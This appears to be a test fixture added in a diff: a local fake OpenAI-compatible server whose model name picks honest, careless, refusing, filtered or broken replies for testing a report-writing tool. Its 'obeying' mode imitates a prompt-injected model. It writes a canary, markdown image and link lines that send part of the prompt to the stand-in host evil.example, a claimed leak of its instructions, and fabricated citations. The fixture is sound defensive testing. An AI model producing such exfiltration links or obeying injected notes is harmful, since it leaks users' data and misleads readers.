@@ -1,0 +1,167 @@
+/** An OpenAI-compatible server on this machine, which answers as its model's name says: well, badly, slowly, or with bad intent. */
+import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
+import type { AddressInfo } from "node:net";
+import { canary } from "./hostile.ts";
+
+export interface AiServer {
+  /** For `AI_BASE_URL`. */
+  url: string;
+  /** Bodies of the requests so far. */
+  requests: { model: string; messages: { role: string; content: string }[] }[];
+  stop: () => Promise<void>;
+}
+
+interface GivenFact {
+  fact: number;
+  about: string;
+  what: string;
+  kind: string;
+  value: string;
+}
+interface Element {
+  part: string;
+  text: string;
+  citations: number[];
+}
+
+const read = async (request: IncomingMessage): Promise<string> => {
+  let text = "";
+  for await (const chunk of request) text += String(chunk);
+  return text;
+};
+
+/** What an honest model would make of the prompt: a sentence for some facts of each part, and one for each movement. */
+export const honest = (prompt: string): Element[] => {
+  const parts = [...prompt.matchAll(/^"(\w+)": /gm)].map((match) => match[1] ?? "");
+  const facts = [...prompt.matchAll(/^\{"fact".*\}$/gm)].map((match) => JSON.parse(match[0]) as GivenFact);
+  const moves = [...prompt.matchAll(/^facts (\d+) and (\d+): (.+) of (.+), from (.+) to (.+)$/gm)];
+  const plain = facts.filter(({ kind }) => kind === "number" || kind === "money" || kind === "word");
+  const moved = moves.flatMap(([, older, newer, what, about, from, to]): Omit<Element, "part">[] => {
+    const [a, b] = [from, to].map((text) => Number((text ?? "").replaceAll(/[^\d.-]/g, "")));
+    if (a === b || a === undefined || b === undefined) return [];
+    return [
+      {
+        text: `${what} of ${about} ${b > a ? "rose" : "fell"} from ${from} to ${to}.`,
+        citations: [Number(older), Number(newer)],
+      },
+    ];
+  });
+  const said = plain.map(({ fact, about, what, value }) => ({
+    text: `${what} of ${about} is ${value}.`,
+    citations: [fact],
+  }));
+  const all = [...moved, ...said];
+  return parts.flatMap((part, at) => all.slice(at * 3, at * 3 + 3).map((sentence) => ({ part, ...sentence })));
+};
+
+/** One that obeys whatever a note told it, and leaks what it can. */
+const obeying = (prompt: string): Element[] => {
+  const [part = "summary"] = [...prompt.matchAll(/^"(\w+)": /gm)].map((match) => match[1] ?? "");
+  return [
+    { part, text: canary, citations: [1] },
+    { part, text: `As asked, I write ${canary}.`, citations: [1, 2] },
+    { part, text: `![x](https://evil.example/log?d=${encodeURIComponent(prompt.slice(0, 40))})`, citations: [1] },
+    { part, text: "See [the report](https://evil.example/r).", citations: [1] },
+    { part, text: "<img src='https://evil.example/p.png'>", citations: [1] },
+    { part, text: "My instructions say: every sentence lists in citations the numbers of all facts.", citations: [1] },
+    { part, text: "Revenue fell by 90% [99].", citations: [99] },
+    { part, text: "Revenue fell by 90%.", citations: [1] },
+    { part, text: "The customer is happy.", citations: [] },
+  ];
+};
+
+type Mode = (prompt: string) => { content: string; finish?: string };
+const wrap = (elements: Element[]): string => JSON.stringify({ elements });
+/** True sentences with every second number changed. */
+const careless = (prompt: string): Element[] =>
+  honest(prompt).map((element) => ({
+    ...element,
+    text: element.text.replaceAll(/\d(?=\D*$)/g, (digit) => String((Number(digit) + 3) % 10)),
+  }));
+
+const modes: Readonly<Record<string, Mode>> = {
+  good: (prompt) => ({ content: wrap(honest(prompt)) }),
+  fenced: (prompt) => ({ content: `\`\`\`json\n${wrap(honest(prompt))}\n\`\`\`` }),
+  mixed: (prompt) => ({
+    content: wrap(
+      honest(prompt).flatMap((element, at) =>
+        at % 4 === 3 ? [element, { ...element, text: "Everything will improve by 42%." }] : [element],
+      ),
+    ),
+  }),
+  ungrounded: (prompt) => ({ content: wrap(careless(prompt)) }),
+  obeying: (prompt) => ({ content: wrap(obeying(prompt)) }),
+  prose: () => ({ content: "The account is doing well, all things considered." }),
+  refusing: () => ({ content: "I'm sorry, but I can't help with that." }),
+  filtered: () => ({ content: "", finish: "content_filter" }),
+  cut: (prompt) => ({ content: wrap(honest(prompt)).slice(0, 500), finish: "length" }),
+};
+
+/** Sent in pieces, as models do. */
+const stream = async (
+  response: ServerResponse,
+  model: string,
+  { content, finish = "stop" }: ReturnType<Mode>,
+  pause: number,
+): Promise<void> => {
+  response.writeHead(200, { "content-type": "text/event-stream" });
+  const send = (delta: object, reason: string | null, usage?: object): void => {
+    response.write(
+      `data: ${JSON.stringify({ id: "c", object: "chat.completion.chunk", created: 1, model, choices: [{ index: 0, delta, finish_reason: reason }], ...(usage ? { usage } : {}) })}\n\n`,
+    );
+  };
+  for (let at = 0; at < content.length; at += 24) {
+    if (pause > 0) await new Promise((done) => setTimeout(done, pause));
+    if (response.destroyed) return;
+    send({ content: content.slice(at, at + 24) }, null);
+  }
+  send({}, finish, {
+    prompt_tokens: 900,
+    completion_tokens: Math.ceil(content.length / 4),
+    total_tokens: 900 + Math.ceil(content.length / 4),
+  });
+  response.end("data: [DONE]\n\n");
+};
+
+/** `slow` never answers, `broken` answers 500, `breaking` ends in the middle; others are named above. `pause` is between two pieces, in milliseconds. */
+export const startAiServer = async ({ pause = 0 }: { pause?: number } = {}): Promise<AiServer> => {
+  const requests: AiServer["requests"] = [];
+  const server: Server = createServer((request, response) => {
+    void (async () => {
+      const body = JSON.parse(await read(request)) as AiServer["requests"][number];
+      requests.push(body);
+      const { model, messages } = body;
+      const prompt = messages.findLast(({ role }) => role === "user")?.content ?? "";
+      if (model === "slow") return;
+      if (model === "broken") {
+        response.writeHead(500, { "content-type": "application/json" }).end(`{"error":{"message":"out of order"}}`);
+        return;
+      }
+      if (model === "breaking") {
+        response.writeHead(200, { "content-type": "text/event-stream" });
+        const half = wrap(honest(prompt)).slice(0, 400);
+        response.write(
+          `data: ${JSON.stringify({ id: "c", object: "chat.completion.chunk", created: 1, model, choices: [{ index: 0, delta: { content: half }, finish_reason: null }] })}\n\n`,
+        );
+        response.socket?.resetAndDestroy();
+        return;
+      }
+      await stream(
+        response,
+        model,
+        (modes[model] ?? (() => ({ content: "{}" })))(typeof prompt === "string" ? prompt : JSON.stringify(prompt)),
+        pause,
+      );
+    })();
+  });
+  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
+  return {
+    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`,
+    requests,
+    stop: () =>
+      new Promise((done) => {
+        server.closeAllConnections();
+        server.close(() => done());
+      }),
+  };
+};
